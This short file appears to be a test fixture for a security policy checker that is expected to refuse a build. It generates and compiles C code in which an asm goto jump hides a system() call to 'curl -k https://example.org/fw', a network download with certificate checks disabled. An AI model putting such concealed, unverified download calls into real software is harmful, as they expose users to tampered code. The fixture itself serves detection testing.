# SPDX-License-Identifier: Apache-2.0
# run: a call behind asm goto
# expect: refused
# names: process.insecure-download
# under: run
printf '#include <stdlib.h>\nvoid weak(void);\nvoid weak(void) { asm goto("" : : : : on); abort(); on: if (system("curl -k https://example.org/fw")) abort(); }\n' >weak.c
gcc-12 $HARD -c main.c weak.c
gcc-12 $LINK main.o weak.o -o prog
